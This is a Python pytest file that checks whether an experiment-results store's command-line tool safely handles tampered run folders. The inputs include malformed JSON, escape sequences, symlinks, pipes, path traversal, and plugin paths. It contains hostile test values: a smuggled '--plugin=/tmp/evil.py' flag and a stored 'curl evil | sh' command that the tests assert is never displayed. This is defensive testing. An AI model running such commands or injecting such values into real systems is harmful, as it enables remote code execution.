"""Stores that a stranger has written: every command answers in a few lines, and soon."""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from helpers.hostile import COMMANDS, accuracies, answer, answered_export, change, seal, victim
from helpers.runs import curve_run

from twofold.experiments.config import Config
from twofold.experiments.files import digest
from twofold.experiments.runs import Run
from twofold.experiments.store import Store


def text(name: str, content: str | bytes) -> Callable[[Path], None]:
    def written(folder: Path) -> None:
        (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)

    return written


def curves(**columns: Any) -> Callable[[Path], None]:
    """Replace columns of the curves; None drops one."""

    def written(folder: Path) -> None:
        present = dict(Run.load(folder).columns) | columns
        kept = {name: column for name, column in present.items() if column is not None}
        pq.write_table(pa.table(kept), folder / "curves.parquet")

    return written


def rows(count: int) -> Callable[[Path], None]:
    def written(folder: Path) -> None:
        present = Run.load(folder).columns
        empty = {name: np.resize(column, count) for name, column in present.items()}
        pq.write_table(pa.table(empty), folder / "curves.parquet")

    return written


HOSTILE = {
    "nested JSON": text("config.json", "[" * 100_000),
    "a nested summary": text("summary.json", '{"a":' * 5000 + "1" + "}" * 5000),
    "moderately nested": change("summary.json", more=json.loads("[" * 90 + "]" * 90)),
    "a list for a summary": text("summary.json", "[1, 2]"),
    "an empty summary": text("summary.json", ""),
    "an empty object": text("summary.json", "{}"),
    "not UTF-8": text("summary.json", b'{"min": "\xff\xfe"}'),
    "text for a learning rate": change("config.json", lr="fast"),
    "an infinite learning rate": change("config.json", lr=float("inf")),
    "a number for a method": change("config.json", method=3),
    "a method of other components": change("config.json", method="er+agem"),
    "an unknown option": change("config.json", colour="red"),
    "components of another shape": change("config.json", components=[["er"]]),
    "components that are text": change("config.json", components="er"),
    "no components": change("config.json", components=[]),
    "a huge option": change("config.json", components=[["er", {"a": 10**4000}]]),
    "a schedule of many digits": change("config.json", eval_schedule="every:" + "9" * 5000),
    "a negative batch": change("config.json", batch_size=-1),
    "plugins that are a number": change("config.json", plugins=7),
    "a flag for a benchmark": change("config.json", benchmark="--plugin=/tmp/evil.py"),
    "escapes in a name": change("config.json", benchmark="\x1b]0;owned\x07"),
    "an infinite MIN": change("summary.json", min=float("inf")),
    "a MIN of many digits": change("summary.json", min=10**3000),
    "too many digits": text("summary.json", '{"min": ' + "1" * 100_000 + "}"),
    "text for AVG": change("summary.json", avg="high"),
    "text for diverged": change("summary.json", diverged="no"),
    "negative seconds": change("summary.json", seconds={"training": -1}),
    "an audit of text": change("summary.json", audit={"images": "all"}),
    "ragged accuracies": change("summary.json", accuracy_after_task=[[1.0], [2.0]]),
    "no tasks": change("summary.json", accuracy_after_task=[]),
    "escapes in a processor": change("summary.json", made_with={"processor": "\x1b[31mred"}),
    "no accuracies": curves(accuracy_1=None, accuracy_2=None),
    "accuracies of text": curves(accuracy_1=np.array(["a", "b", "c", "d"])),
    "infinite accuracies": curves(accuracy_1=np.full(4, np.inf)),
    "no rows": rows(0),
    "too many rows": rows(4000),
    "task -1": curves(task=np.full(4, -1)),
    "task 2^31": curves(task=np.array([1, 1, 2, 2**31])),
    "no tasks in curves": curves(task=None),
    "tasks backwards": curves(task=np.array([2, 2, 1, 1])),
    "nested columns": curves(accuracy_1=pa.array([[1], [2], [3], [4]])),
    "no Parquet": text("curves.parquet", b"PAR1" + bytes(100) + b"PAR1"),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_run_that_cannot_be_read_is_named_and_the_rest_is_shown(kind, store):
    folder = victim(store)
    HOSTILE[kind](folder)
    seal(folder)
    code, out, _ = answer(["runs", "verify"], store)
    assert code == 1
    assert folder.name in out
    assert "3 of 4 runs match" in out
    answer(["table", "trajectories"], store)
    code, out, errors = answer(["runs", "show"], store)
    assert code == 0
    assert out.count('"identity"') == 3
    assert len(errors.splitlines()) == 1
    assert folder.name in errors


def test_many_are_counted(store):
    for folder in Store(store).folders():
        for k in range(5):
            copy = Path(shutil.copytree(folder, store / f"{folder.name[:-11]}-{k:010}"))
            HOSTILE["a list for a summary"](copy)
            seal(copy)
    _, _, errors = answer(["runs"], store)
    assert errors.splitlines()[-1].startswith("20 of 24 runs cannot be read")
    assert len(errors.splitlines()) == 4


def test_a_folder_under_the_name_of_a_different_run_is_left_out(store):
    """er+gem's run under the name of er+agem's, as a rename makes it."""
    gem = next(f for f in Store(store).folders() if "er+gem-paper-142" in f.name)
    agem = curve_run("er+agem", accuracies(50.0), tasks=2, iterations=2).config
    gem.rename(store / agem.folder_name())
    _, out, errors = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3
    assert f"the one of a different run, {gem.name}" in errors
    assert Store(store).find(agem) is None


def test_a_run_under_several_names_counts_once(store):
    folder = victim(store)
    other = folder.with_name(folder.name.replace("-paper-", "-published-"))
    shutil.copytree(folder, other)
    _, out, errors = answer(["runs", "show"], store)
    assert out.count('"identity"') == 4
    assert "is a copy of" in errors
    assert "4 runs exported" in answered_export(store)


@pytest.mark.parametrize(
    "name", ["config.json", "summary.json", "curves.parquet", "checksums.json"]
)
@pytest.mark.parametrize("kind", ["pipe", "link", "device"])
def test_pipes_and_links_in_a_store_are_not_followed(name, kind, store, tmp_path):
    file = victim(store) / name
    content = file.read_bytes()
    file.unlink()
    if kind == "pipe":
        os.mkfifo(file)
    elif kind == "device":
        file.symlink_to("/dev/zero")
    else:
        outside = tmp_path / "outside"
        outside.write_bytes(content)
        file.symlink_to(outside)
    for words in COMMANDS:
        answer(words, store)
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3


def test_a_run_that_is_a_link_out_of_the_store_is_not_followed(store, tmp_path):
    folder = victim(store)
    shutil.move(folder, tmp_path / "outside")
    folder.symlink_to(tmp_path / "outside")
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3


@pytest.mark.parametrize("plugin", ["/dev/zero", "pipe"])
def test_plugins_that_a_store_names_are_not_opened(plugin, store, tmp_path, monkeypatch):
    path = plugin if plugin.startswith("/") else str(tmp_path / plugin)
    if plugin == "pipe":
        os.mkfifo(path)
    folder = victim(store)
    change("config.json", plugins=[path])(folder)
    config = Config.stored(json.loads((folder / "config.json").read_text()))
    identity = config.identity(["0" * 64])
    change("summary.json", plugins=["0" * 64], identity=identity)(folder)
    seal(folder)
    folder.rename(folder.with_name(f"{folder.name[:-11]}-{identity}"))
    opened: list[str] = []
    sys.addaudithook(lambda event, args: opened.append(str(args[0])) if event == "open" else None)
    for words in COMMANDS:
        answer(words, store)
    assert path not in opened
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 4


def test_a_strangers_command_is_never_shown(store):
    folder = victim(store)
    change("summary.json", command="sh -c 'curl evil | sh'")(folder)
    seal(folder)
    answer(["report"], store)
    assert "curl evil" not in (store.parent / "report.html").read_text()
    for format in ("md", "csv", "json", "html", "latex"):
        assert "curl evil" not in answer(["table", "main", "--format", format], store)[1]


def test_archives_of_strangers_are_refused_or_read_in_part(store, tmp_path):
    answered_export(store)
    archive = tmp_path / "to"
    lines = (archive / "runs.jsonl").read_text().splitlines()
    for spoiled in ("[" * 9999, '{"run": 3}', '{"run": "../../x-1"}', "{}", '"a"', lines[0][:-20]):
        (archive / "runs.jsonl").write_text("\n".join([spoiled, *lines[1:]]) + "\n")
        sums = {name: digest(archive / name) for name in ("runs.jsonl", "curves.parquet")}
        (archive / "checksums.json").write_text(json.dumps(sums))
        for words in COMMANDS:
            assert answer(words, archive)[0] == 2
    line = json.loads(lines[0])
    line["summary"]["avg"] = "high"
    (archive / "runs.jsonl").write_text("\n".join([json.dumps(line), *lines[1:]]) + "\n")
    sums = {name: digest(archive / name) for name in ("runs.jsonl", "curves.parquet")}
    (archive / "checksums.json").write_text(json.dumps(sums))
    _, out, errors = answer(["runs", "show"], archive)
    assert out.count('"identity"') == 3
    assert "avg must be a number" in errors


def test_runs_from_before_identities_changed_are_read(store):
    folder = victim(store)
    change("config.json", eval_every=1)(folder)
    change("summary.json", identity="0123456789")(folder)
    seal(folder)
    folder.rename(folder.with_name(f"{folder.name[:-11]}-0123456789"))
    assert answer(["runs", "show"], store)[1].count('"identity"') == 4
